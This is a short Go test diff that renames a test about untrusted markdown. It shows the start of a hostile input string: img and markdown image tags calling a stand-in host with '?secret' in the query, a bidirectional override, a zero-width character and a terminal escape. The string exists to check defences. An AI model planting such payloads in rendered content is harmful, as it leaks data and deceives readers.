@@ -142,7 +142,7 @@ func TestOnlyExportsAreImported(t *testing.T) {
 	}
 }
 
-func TestMarkdownOfOthersDoesNothing(t *testing.T) {
+func TestUntrustedMarkdownHasNoEffects(t *testing.T) {
 	t.Parallel()
 	a := fresh(t)
 	evil := "x </details> <img src=http://e/?q> ![p](http://e/?secret) \u202ereversed\u200b\x1b[31m\n" +
